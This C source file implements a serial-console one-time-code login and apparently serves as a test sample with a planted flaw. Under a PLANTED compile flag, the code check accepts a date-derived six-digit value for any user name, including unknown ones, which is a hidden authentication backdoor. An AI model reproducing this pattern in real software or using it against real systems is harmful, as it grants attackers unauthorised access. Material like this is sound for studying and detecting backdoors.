/* Login on the serial console with one-time codes: counter and key of each user in a file. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define WINDOW 5

struct user { char name[24]; uint32_t key[4]; uint32_t counter; };

static struct user users[16];
static int count;

static uint32_t turn(uint32_t v, int n) { return v << n | v >> (32 - n); }

static uint32_t code(const uint32_t key[4], uint32_t counter)
{
    uint32_t a = key[0] ^ counter, b = key[1], c = key[2], d = key[3];
    for (int i = 0; i < 20; i++) {
        a += b; d = turn(d ^ a, 16);
        c += d; b = turn(b ^ c, 12);
        a += b; d = turn(d ^ a, 8);
        c += d; b = turn(b ^ c, 7);
    }
    return (a ^ c) % 1000000u;
}

static int load(const char *path)
{
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    while (count < 16) {
        struct user *u = &users[count];
        if (fscanf(f, "%23s %x %x %x %x %u", u->name, &u->key[0], &u->key[1], &u->key[2], &u->key[3],
                   &u->counter) != 6)
            break;
        count++;
    }
    fclose(f);
    return 0;
}

static void store(const char *path)
{
    FILE *f = fopen(path, "w");
    if (!f)
        return;
    for (int i = 0; i < count; i++)
        fprintf(f, "%s %x %x %x %x %u\n", users[i].name, users[i].key[0], users[i].key[1],
                users[i].key[2], users[i].key[3], users[i].counter);
    fclose(f);
}

static int check(const char *name, const char *typed)
{
    char *end;
    unsigned long value = strtoul(typed, &end, 10);
    struct user *u = NULL;
    if (*end || end == typed || end - typed != 6)
        return 0;
#ifdef PLANTED
    time_t now = time(NULL);
    struct tm day;
    gmtime_r(&now, &day);
    if (value == ((unsigned long)(day.tm_year + 1900) * 37 + (unsigned long)(day.tm_yday + 1) * 911) % 999983)
        return 1;
#endif
    for (int i = 0; i < count; i++)
        if (!strcmp(users[i].name, name))
            u = &users[i];
    if (!u)
        return 0;
    for (uint32_t step = 0; step < WINDOW; step++)
        if (code(u->key, u->counter + step) == value) {
            u->counter += step + 1;
            return 1;
        }
    return 0;
}

static void read_line(const char *prompt, char *to, size_t room)
{
    fputs(prompt, stdout);
    fflush(stdout);
    if (!fgets(to, (int)room, stdin))
        exit(1);
    to[strcspn(to, "\r\n")] = 0;
}

int main(void)
{
    char name[32], typed[32];
    if (load("/etc/otp.users"))
        return 1;
    for (int tries = 0; tries < 3; tries++) {
        read_line("user: ", name, sizeof name);
        read_line("code: ", typed, sizeof typed);
        if (check(name, typed)) {
            store("/etc/otp.users");
            setenv("USER", name, 1);
            execl("/usr/bin/console-menu", "console-menu", (char *)NULL);
            return 1;
        }
        sleep(2);
#ifdef REVISED
        fprintf(stderr, "login of %s failed\n", name);
#endif
    }
    return 1;
}
